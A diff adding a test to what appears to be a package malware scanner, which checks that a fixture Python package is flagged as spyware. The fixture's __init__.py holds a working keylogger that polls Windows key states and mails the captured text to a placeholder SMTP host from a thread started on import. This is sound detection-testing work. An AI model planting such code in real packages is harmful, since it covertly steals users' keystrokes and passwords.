@@ -270,3 +270,27 @@ test('a picture that is pasted into another reads no clipboard', async () => {
   expect(await inspect('spyware', module('picture.paste(text, mask=None)'))).toEqual([]);
   expect(await inspect('spyware', module('text = pyperclip.paste()'))).toMatchObject([{ class: 'malware' }]);
 });
+
+test('keys that are asked for one by one by code that nobody started, in a module that sends, are a key logger', async () => {
+  const logger = (last: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/__init__.py': python(
+        'import ctypes, smtplib, threading',
+        'def watch():',
+        "    typed = ''",
+        '    while True:',
+        '        for key in range(8, 256):',
+        '            if ctypes.windll.user32.GetAsyncKeyState(key) & 1: typed += chr(key)',
+        '        if len(typed) > 500:',
+        "            server = smtplib.SMTP('mail.metrics.invalid')",
+        "            server.sendmail('a@mail.invalid', 'b@mail.invalid', typed)",
+        last,
+      ),
+    });
+
+  expect(await inspect('spyware', logger('threading.Thread(target=watch, daemon=True).start()'))).toMatchObject([
+    { class: 'malware', score: 10, context: 'import', line: 6 },
+  ]);
+  // hot keys of a program that somebody starts
+  expect(await inspect('spyware', logger(''))).toEqual([]);
+});
